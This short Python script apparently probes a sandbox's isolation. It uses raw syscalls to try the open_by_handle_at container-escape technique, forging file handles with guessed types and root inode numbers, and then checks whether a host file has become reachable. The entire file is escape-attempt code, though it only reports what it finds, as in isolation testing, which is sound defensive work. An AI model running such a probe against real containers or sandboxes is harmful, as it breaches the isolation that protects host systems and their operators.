# Files by handle, past every mount (open_by_handle_at(2)): made by hand, because making one is refused as well.
import os
import struct
import sys
from attempt import call, tell

tell("name_to_handle_at", call(303, -100, "/usr/bin/env", struct.pack("Ii", 128, 0) + b"\0" * 128, b"\0" * 4, 0))
found = set()
for kind in (1, 2, 0x81, 0xfe):  # FILEID_INO32_GEN, with parent, XFS, and one of the kernel's own
    for inode in (2, 32, 64, 128, 256):  # roots of ext4, XFS, btrfs
        handle = struct.pack("Ii", 8, kind) + struct.pack("II", inode, 0)
        for place in ("/usr", "/etc", "/work", "/proc"):
            found.add(call(304, os.open(place, os.O_RDONLY), handle, os.O_RDONLY))
tell("open_by_handle_at", sorted(found, key=str))
tell("the host's file", os.path.exists(sys.argv[1]))
